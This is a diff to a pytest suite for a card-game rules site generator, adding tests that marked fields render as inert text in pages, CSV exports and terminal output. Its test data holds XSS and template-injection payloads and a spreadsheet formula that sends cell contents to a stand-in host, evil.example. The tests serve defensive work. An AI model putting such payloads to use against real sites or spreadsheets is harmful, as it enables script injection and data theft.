@@ -13,6 +13,7 @@ import shutil
 import xml.etree.ElementTree as etree
 from collections.abc import Iterator
 from dataclasses import dataclass, field
+from html import unescape
 from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
@@ -22,20 +23,31 @@ import pytest
 import yaml
 from conftest import Pages, at_rest, serving
 from figures import note
-from small_project import GOOD, make_buildable
+from jinja2 import Environment
+from mkdocs.utils.meta import get_data
+from small_project import GOOD, ROOT, make_buildable
 
 from generator.catalog import CatalogError, read_catalog
 from generator.catalog.layout import CARD_KINDS, SCHEMAS, STATEMENT, SUBTYPES, card_file
 from generator.catalog.shapes import Anything, Either, Keys, Many, Maybe, Text
+from generator.cli import main
+from generator.database.exports import export
 from generator.rulings import read_scenarios
-from generator.site.build import build_site
+from generator.site import links
+from generator.site.book import Book
+from generator.site.build import BuildError, build_site, render
 from generator.site.policy import POLICY
+from generator.site.writer import Writer
 
 MARKER = (
     "m@q<img src=x onerror=fnord()>\"'&amp;&lt;b&gt;](javascript:fnord()) [a](javascript:fnord()) <javascript:fnord()> {{7*7}} {% raw %} "
-    "**b** _e_ `c` <script>fnord()</script> </title></a></td> | ~ # {: onclick=fnord() } --> ]]> ${fnord()}"
+    "**b** _e_ `c` <script>fnord()</script> </title></a></td> | ~ # {: onclick=fnord() } --> ]]> ${fnord()} :bomb:"
 )
-HIDDEN = ("\x00", "\x1b", "\x7f", "\x85", "\u200b", "\u202e", "\u2066", "\ufeff", "\ue000", "\u2028")
+BRIEF = "m@q<img src=x onerror=fnord()>"
+"""The same for texts that may not be so long."""
+TEMPLATES: set[str] = set()
+"""Those that the build of the marked project asks for."""
+HIDDEN = ("\x00", "\x1b", "\x7f", "\x85", "\u200b", "\u202e", "\u2066", "\ufeff", "\ue000", "\u2028", "\u034f", "\u3164", "\ufffe", "\uffff")
 
 
 def marker(number: int) -> str:
@@ -115,6 +127,21 @@ attack-sum:
 without-place: {capture: discarded, move: uncontrolled}
 besides:
   - {id: destroys, says: a bad roll destroys, cites: [toy-roll]}
+tokens: true
+relief: true
+goals: {words: [players, groups], players: 4, victims: [group], cites: [ALL]}
+""",
+    "cards/toil/groups.yaml": """
+set: toil
+kind: group
+cards:
+  - {id: diggers, name: Diggers, power: 3, resistance: 4, arrows: {in: left, out: [top]}}
+  - {id: weavers, name: Weavers, power: 2, resistance: 3, arrows: {in: left, out: [top]}}
+""",
+    "rules/toil/game.yaml": """
+hooks: deluxe
+example: toil control diggers>weavers
+goals: {words: [players, groups], players: 4, victims: [group], cites: [ALL]}
 """,
     "rules/toil/terms.yaml": """
 opposites:
@@ -151,6 +178,7 @@ Roll a die.
   section: roll
   sources: [toy-roll]
   about: Straight Groups
+  formerly: [alone]
   position: toy control bakers>poets
   expect:
     - {strength: 2, note: So it is.}
@@ -164,6 +192,10 @@ Roll a die.
 """What the project needs beside the good files, so that it has one of everything."""
 
 
+SAID = {"kind": "rule", "section": "Others", "page": "2", "line": "6", "gist": "It is so.", "cards": [], "checkable": False}
+"""A statement that a template or a script cites."""
+
+
 def project(folder: Path) -> None:
     """Write a project with a text of every kind."""
     shutil.copytree(GOOD, folder, dirs_exist_ok=True)
@@ -172,8 +204,8 @@ def project(folder: Path) -> None:
         with (folder / file).open("a", encoding="utf-8") as opened:
             opened.write(more.removeprefix("\n"))
     sets = folder / "cards/sets.yaml"
-    toil = "  - {id: toil, title: Toil, short: Toil, numbers: [power], alignments: [], attributes: []}\n"
-    sets.write_text(sets.read_text(encoding="utf-8").replace("sets:\n", f"{toil}sets:\n"), encoding="utf-8")
+    toil = "  - {id: toil, title: Toil, short: Toil, numbers: [power, resistance], alignments: [], attributes: []}\n"
+    sets.write_text(sets.read_text(encoding="utf-8").replace("sets:\n", f"{toil}sets:\n  - {{id: toil, game: toil, title: Toil, year: 2002}}\n"), encoding="utf-8")
     documents = folder / "rules/documents.yaml"
     documents.write_text(
         "- {id: toy, title: The Rules of Toy, short: Toy rules, year: 2001, edition: First, publisher: Toymakers, note: Out of print.}\n",
@@ -182,6 +214,16 @@ def project(folder: Path) -> None:
     terms = folder / "rules/toy/terms.yaml"
     text = terms.read_text(encoding="utf-8")
     terms.write_text(text.replace("{id: power, say:", "{id: power, label: strength of arms, say:"), encoding="utf-8")
+    ours = [path.read_text(encoding="utf-8") for kind in ("*.j2", "assets/*.js") for path in (ROOT / "site_templates").glob(kind)]
+    known = {cite for path in ROOT.glob("rules/statements/*.jsonl") for cite in re.findall(r'"id": "([\w-]+)"', path.read_text(encoding="utf-8"))}
+    cited = sorted({each for text in ours for each in re.findall(r'"([\w-]+)"', text)} & known)
+    with (folder / "rules/statements/toy.jsonl").open("a", encoding="utf-8") as opened:
+        opened.writelines(json.dumps({**SAID, "id": cite}) + "\n" for cite in cited)
+    for game in folder.glob("rules/*/game.yaml"):
+        game.write_text(game.read_text(encoding="utf-8").replace("[ALL]", f"[{', '.join(cited)}]"), encoding="utf-8")
+    anchors = sorted({anchor for text in ours for anchor in re.findall(r'sec\("([\w-]+)"\)', text)})
+    sections = "".join(f"\n## 2.{at} Another {{#{anchor}}}\n\nIt is so.\n~ toy-roll\n" for at, anchor in enumerate(anchors, 1))
+    (folder / "rules/toy/02-others.md").write_text(f"# 2 Others {{#others}}\n{sections}", encoding="utf-8")
     assert set() == reads(folder)
 
 
@@ -317,16 +359,39 @@ def marked(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[int, st
     first, *others = [json.loads(line) for line in text.splitlines()]
     for number, key in enumerate(named(STATEMENT, ""), 910):
         told = first.get(key[1:], "") if isinstance(first.get(key[1:], ""), str) else ""
-        marked = {**first, key[1:]: f"{marker(number)} {told}"}
-        statements.write_text("".join(f"{json.dumps(each)}\n" for each in (marked, *others)), encoding="utf-8")
-        if not reads(folder):
-            first, names[number] = marked, f"statement{key}"
+        for mark in (f"{marker(number)} {told}", BRIEF.replace("@", str(number))):
+            marked = {**first, key[1:]: mark}
+            statements.write_text("".join(f"{json.dumps(each)}\n" for each in (marked, *others)), encoding="utf-8")
+            if f"statement{key}" not in names.values() and not reads(folder):
+                first, names[number] = marked, f"statement{key}"
     statements.write_text("".join(f"{json.dumps(each)}\n" for each in (first, *others)), encoding="utf-8")
-    assert {"statement.gist", "statement.section", "statement.kind"} <= set(names.values())
+    assert {"statement.gist", "statement.section", "statement.kind", "statement.page", "statement.line"} <= set(names.values())
     assert set() == reads(folder)
     make_buildable(folder)
-    build_site(folder)
+    synonyms = folder / "rules/synonyms.yaml"
+    phrases = yaml.safe_load(synonyms.read_text(encoding="utf-8"))
+    for number, (name, values) in enumerate(lists(phrases, "synonyms"), 1_000):
+        values.append(marker(number))
+        names[number] = name
+    synonyms.write_text(yaml.safe_dump(phrases), encoding="utf-8")
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("DOSSIER_CORES", "1")  # so that all of it happens in this process
+        found_before = Environment.get_template
+        patch.setattr(Environment, "get_template", lambda self, name, *given, **named: TEMPLATES.add(name) or found_before(self, name, *given, **named))
+        build_site(folder)
     return folder, names
+
+
+def lists(data: Any, name: str) -> Iterator[tuple[str, list[Any]]]:
+    """Every list of texts in YAML data, with the keys that lead to it."""
+    if isinstance(data, dict):
+        for key, each in data.items():
+            yield from lists(each, f"{name}.{key}")
+    elif isinstance(data, list) and all(isinstance(each, str) for each in data):
+        yield name, data
+    elif isinstance(data, list):
+        for each in data:
+            yield from lists(each, name)
 
 
 BLANK = "data:image/gif;base64,R0lGODlhAQABAAD/ACwAAAAAAQABAAACADs="
@@ -375,6 +440,42 @@ def test_every_field_is_marked(marked: tuple[Path, dict[int, str]], tmp_path: Pa
         assert any(each.endswith(name) for each in free), (name, sorted(free))
 
 
+def test_every_template_is_rendered(marked: tuple[Path, dict[int, str]]) -> None:
+    """The project has a page of each kind, so what is looked at here is looked at in each template."""
+    assert marked
+    assert set() == {path.name for path in (ROOT / "site_templates").glob("*.j2")} - TEMPLATES
+
+
+def test_a_key_that_is_no_word_of_ours_is_a_problem(tmp_path: Path) -> None:
+    """Where any key may stand, and another reader says which, the marker is none."""
+    project(tmp_path)
+    tried = set()
+    for path in sorted(tmp_path.glob("rules/*/rulings/*.yaml")):
+        text = path.read_text(encoding="utf-8")
+        for name, key in keys_anywhere(shape_of(path.relative_to(tmp_path).as_posix(), yaml.compose(text)), yaml.compose(text), ""):
+            path.write_text(replaced(text, key.start_mark.index, key.end_mark.index, marker(1)), encoding="utf-8")
+            assert reads(tmp_path), name
+            tried.add(name)
+        path.write_text(text, encoding="utf-8")
+    assert {".expect.strength", ".counter.expect.strength"} <= tried
+
+
+def keys_anywhere(shape: Any, node: yaml.Node, name: str) -> Iterator[tuple[str, yaml.ScalarNode]]:
+    """Every key below a node that no shape names."""
+    if isinstance(shape, Maybe | Many):
+        for child in node.value if isinstance(shape, Many) else [node]:
+            yield from keys_anywhere(shape.of, child, name)
+    elif isinstance(node, yaml.MappingNode) and isinstance(shape, Keys | Anything):
+        named = {**shape.needed, **shape.may} if isinstance(shape, Keys) else {}
+        for key, child in node.value:
+            if key.value not in named:
+                yield f"{name}.{key.value}", key
+            yield from keys_anywhere(named.get(key.value, Anything()), child, f"{name}.{key.value}")
+    elif isinstance(node, yaml.SequenceNode):
+        for child in node.value:
+            yield from keys_anywhere(Anything(), child, name)
+
+
 def test_pages_show_the_marker_and_nothing_of_it_is_markup(marked: tuple[Path, dict[int, str]]) -> None:
     """No element, attribute or script of a page comes from a marker, and what a page shows of one is what was written."""
     folder, names = marked
@@ -410,6 +511,42 @@ def test_other_files_hold_the_marker_as_text(marked: tuple[Path, dict[int, str]]
         assert any("<img src=x onerror=fnord()>" in row["name"] for row in csv.DictReader(file))
 
 
+@pytest.mark.parametrize("computed", ['=HYPERLINK("http://evil.example/?"&A1,"Rumor")', "+1", "-1+A1", "@SUM(A1)", " =1", "\uff1d1"])
+def test_no_spreadsheet_computes_a_text(tmp_path: Path, computed: str) -> None:
+    """A cell whose text would be a formula has an apostrophe before it."""
+    project(tmp_path)
+    cards = tmp_path / "cards/toy/specials.yaml"
+    cards.write_text(cards.read_text(encoding="utf-8").replace("name: Rumor", f"name: {json.dumps(computed)}"), encoding="utf-8")
+    (path,) = export(read_catalog(tmp_path), ["csv"], tmp_path)
+    with path.open(encoding="utf-8", newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert f"'{computed}" in {row["name"] for row in rows}
+    assert [] == [cell for row in rows for cell in row.values() if re.match(r"\s*[=+@-](?!\d+$)", cell)]
+
+
+def test_the_terminal_shows_the_marker_as_text(marked: tuple[Path, dict[int, str]], capsys: pytest.CaptureFixture[str]) -> None:
+    """Whatever command prints a marker prints all of it, and no sign, style or link that comes of it; the search, which cuts texts, what is there."""
+    folder, names = marked
+    catalog = read_catalog(folder)
+    cards = [["card", record.id.partition("/")[2]] for record in catalog.cards]
+    others = [["ruling", *ruling] for ruling in ((), *((each.id,) for each in catalog.rulings))]
+    seen = set()
+    for line in [*cards, *others, ["coverage", "--map"], ["attack", "toy control bakers>poets"], ["search", "poets"]]:
+        with pytest.raises(SystemExit) as ended:
+            main([*line, "--root", str(folder)])
+        printed = capsys.readouterr()
+        assert (0, "") == (ended.value.code, printed.err), line
+        assert printed.out.replace("\n", "").isprintable() and "\N{BOMB}" not in printed.out, line
+        whole = "".join(printed.out.split())
+        found = re.findall(r"m(\d+)q", whole)
+        seen |= set(found)
+        for number in found if line[0] != "search" else ():
+            brief = names[int(number)].startswith(("statement.page", "statement.line"))
+            assert "".join((BRIEF if brief else MARKER).replace("@", number).split()) in whole, line
+        assert found or line[0] != "search"
+    assert len(seen) > 20
+
+
 LISTEN = """() => {
   self.said = [];
   addEventListener("securitypolicyviolation", (event) => said.push(`${event.violatedDirective} ${event.blockedURI}`));
@@ -428,6 +565,8 @@ def test_no_page_runs_or_loads_anything_of_a_marker(marked: tuple[Path, dict[int
         pages = sorted((folder / "site").rglob("index.html"))
         for path in pages:
             page.goto(url + path.parent.relative_to(folder / "site").as_posix().removeprefix(".").rstrip("/") + "/")
+            if page.locator("[data-games]").count():  # a calculator, which fetches its game
+                at_rest(page)
             assert [] == page.evaluate("() => said"), path
         page.goto(url)
         assert [] == page.evaluate("() => said")
@@ -520,6 +659,24 @@ def test_every_page_says_its_policy(marked: tuple[Path, dict[int, str]]) -> None
         assert not re.search("<(script|link|style|img)", before), path
     assert POLICY in (site / "_headers").read_text(encoding="utf-8")
     assert "_headers" not in (site / "sw.js").read_text(encoding="utf-8")
+
+
+def test_a_title_is_read_back_whatever_is_in_it(tmp_path: Path) -> None:
+    """Titles and descriptions go to MkDocs as YAML, where every character is read as what it is, those that YAML refuses to read too."""
+    title = "".join(map(chr, (*range(0x20, 0x3000), *range(0xFDD0, 0x10000), 0x1F3B2, 0x10FFFF)))
+    Writer(Book(read_catalog(GOOD)), ROOT / "site_templates", tmp_path).page("x/", "search.md.j2", title=title, description="--- # \n---\n", questions=())
+    text, read = get_data((tmp_path / links.source_of("x/")).read_text(encoding="utf-8"))
+    assert (title, "--- # \n---\n") == tuple(unescape(read[key]) for key in ("title", "description"))
+    assert not text.startswith("---")
+
+
+def test_a_page_whose_title_cannot_be_read_is_no_page(tmp_path: Path) -> None:
+    """MkDocs would show the title, the description and all that goes with them as a part of the page."""
+    (tmp_path / "docs").mkdir()
+    (tmp_path / "docs/index.md").write_text('---\ntitle: "<b>\ufffe"\n---\n# A page\n', encoding="utf-8")
+    with pytest.raises(BuildError) as caught:
+        render(ROOT, tmp_path / "docs", tmp_path / "site", [{"Home": "index.md"}])
+    assert ("mkdocs.yml:1:1: broken-page: the title and description of index.md can't be read",) == caught.value.problems
 
 
 def test_what_nobody_can_see_is_refused_in_every_field(tmp_path: Path) -> None:
